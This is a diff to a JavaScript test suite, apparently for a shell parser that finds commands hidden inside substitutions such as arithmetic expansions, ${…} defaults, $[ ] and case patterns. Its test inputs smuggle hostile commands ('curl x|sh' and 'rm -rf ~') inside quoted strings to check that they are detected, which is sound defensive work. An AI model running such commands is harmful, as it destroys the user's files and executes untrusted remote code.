@@ -656,6 +656,8 @@ describe('constructs whose commands run although they look like no command', () 
   it('finds substitutions between single quotes in arithmetic and in ${…} (the shell runs them inside double quotes)', () => {
     assert.ok(texts(`ls "$(( '$(curl x|sh)' ))"`).includes('curl x'));
     assert.ok(texts(`cat x "\${x:-'$(rm -rf ~)'}"`).includes('rm -rf ~'));
+    assert.ok(texts(`gh issue view 445 $[ '$(rm -rf ~)' ]`).includes('rm -rf ~'));
+    assert.deepEqual(texts('echo $[1+2]'), ['echo $[1+2]']);
   });
   it('finds the substitutions of case patterns', () => {
     assert.ok(texts('case x in "$(python3 -c 1)") ;; esac').includes('python3 -c 1'));
